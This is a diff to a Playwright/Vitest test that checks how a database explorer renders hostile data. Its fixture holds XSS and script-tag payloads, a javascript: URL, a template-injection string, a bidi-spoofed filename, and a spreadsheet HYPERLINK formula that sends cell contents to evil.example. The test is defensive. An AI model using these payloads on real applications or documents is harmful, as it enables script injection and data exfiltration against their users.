@@ -1,8 +1,9 @@
 import { defineEntity, type EntityManager, p } from '@mikro-orm/core';
 import type { Browser } from 'playwright-core';
-import { afterAll, beforeAll, describe, expect, test } from 'vitest';
+import { afterAll, beforeAll, describe, expect } from 'vitest';
 import { openBrowser } from '../support/browser.ts';
 import { databases, type FreshDatabase, freshDatabase } from '../support/databases.ts';
+import { test } from '../support/halves.ts';
 import { startApplication, type TestApplication } from '../support/testing.ts';
 import { openExplorer, type WatchedPage } from './watched-page.ts';
 
@@ -19,7 +20,8 @@ const hostile = {
   markup: '<img src=x onerror="alert(1)"><b>bold</b></td></table><h1>heading</h1>',
   script: '</script><script>alert(1)</script><svg onload=alert(1)>',
   address: 'javascript:alert(1)',
-  template: '{{constructor.constructor("alert(1)")()}} $\u007Balert(1)} &lt;b&gt;',
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: a text that a template engine would run
+  template: '{{constructor.constructor("alert(1)")()}} ${alert(1)} &lt;b&gt;',
   direction: '\u202Egnp.exe \u2066\u2067evil\u2069 \u05D0\u05D1\u05D2 \u200F\u061C',
   formula: '=HYPERLINK("http://evil.example/?"&A1,"click")',
   control: 'null \u0001 \u007F \uFEFF \u2028 line',
@@ -103,9 +105,14 @@ describe.each(databases)('hostile data in the explorer on %s', (kind) => {
     await page.locator('dl.fields').waitFor();
     const isolated = page.locator('main bdi', { hasText: 'gnp.exe' });
     expect(await isolated.count()).toBeGreaterThan(0);
-    expect(
-      await page.locator('main :not(:has(bdi)):not(bdi):not(bdi *):not(pre):not(code)', { hasText: 'gnp.exe' }).count(),
-    ).toBe(0);
+    // outside of bdi, the text could reorder what stands beside it
+    const loose = `(() => {
+      const texts = document.createTreeWalker(document.querySelector('main'), NodeFilter.SHOW_TEXT);
+      const found = [];
+      while (texts.nextNode()) if (texts.currentNode.data.includes('gnp.exe')) found.push(texts.currentNode.parentElement);
+      return found.filter((element) => !element.closest('bdi, pre, code')).map((element) => element.outerHTML);
+    })()`;
+    expect(await page.evaluate(loose)).toEqual([]);
     watched.expectQuiet();
   });
 
